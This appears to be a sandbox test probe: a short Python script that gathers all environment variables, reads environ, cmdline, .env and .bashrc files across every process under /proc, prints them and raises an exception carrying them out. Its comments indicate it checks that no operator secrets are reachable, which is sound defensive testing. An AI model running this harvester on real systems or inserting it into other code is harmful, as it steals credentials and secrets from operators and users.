# Tries: B1, B4. Reads the environment of every process, and its own.
# Afterwards: none of them holds anything of the operator's.
# Ends: exception
import os

SEED, splits, folds = 1, {}, []
found = [f"{key}={value}" for key, value in os.environ.items()]
for process in [*filter(str.isdigit, os.listdir("/proc")), "self", "thread-self", "1"]:
    for name in ("environ", "cmdline", "cwd/.env", "root/root/.bashrc", "task/1/environ"):
        try:
            with open(f"/proc/{process}/{name}", "rb") as file:
                found.append(file.read().decode(errors="replace"))
        except OSError:
            pass
print(found)
raise RuntimeError("\n".join(found)[:9000])
